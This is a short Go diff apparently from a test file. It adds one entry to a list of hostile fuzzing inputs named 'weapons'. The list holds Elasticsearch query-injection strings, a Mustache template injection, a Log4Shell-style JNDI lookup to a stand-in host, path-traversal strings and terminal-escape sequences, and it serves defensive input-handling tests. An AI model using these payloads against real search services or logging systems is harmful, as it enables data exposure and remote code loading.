@@ -15,7 +15,7 @@ import (
 // weapons are values that would mean something in a query, a path, a script or a template, were
 // they ever a part of one. A NUL cannot be in an argument.
 var weapons = []string{
-	`*" OR "1`, `" OR queue_id:*`, `*`, `?*`, `a OR b AND NOT c`, `{"match_all":{}}`, `"}},{"match_all":{}}`, `{{#toJson}}_source{{/toJson}}`, `{{`,
+	`*" OR "1`, `" OR queue_id:*`, `*`, `?`, `?*`, `a OR b AND NOT c`, `{"match_all":{}}`, `"}},{"match_all":{}}`, `{{#toJson}}_source{{/toJson}}`, `{{`,
 	`doc['queue_id'].value`, `';return true;//`, `${jndi:ldap://x.example}`, `<x-{now/d}>`, `/.*/`, `a~5^9`, `_exists_:from`,
 	"a\nb\r\tc", "\x1b[2J", "\u009b31m\u202e", "\xff\xfe", `\`, `\"`, `'`, `/`, `..`, `../../_all/_search`, `%2f%2e%2e`, `a#b?c=d&e`, `-`, `--`, ` `, `_all`,
 	`fe80::1%eth0`, `203.0.113.199/8`, `::ffff:203.0.113.199`, strings.Repeat("a ", 4000), strings.Repeat("(", 8000), strings.Repeat("é", 4000),
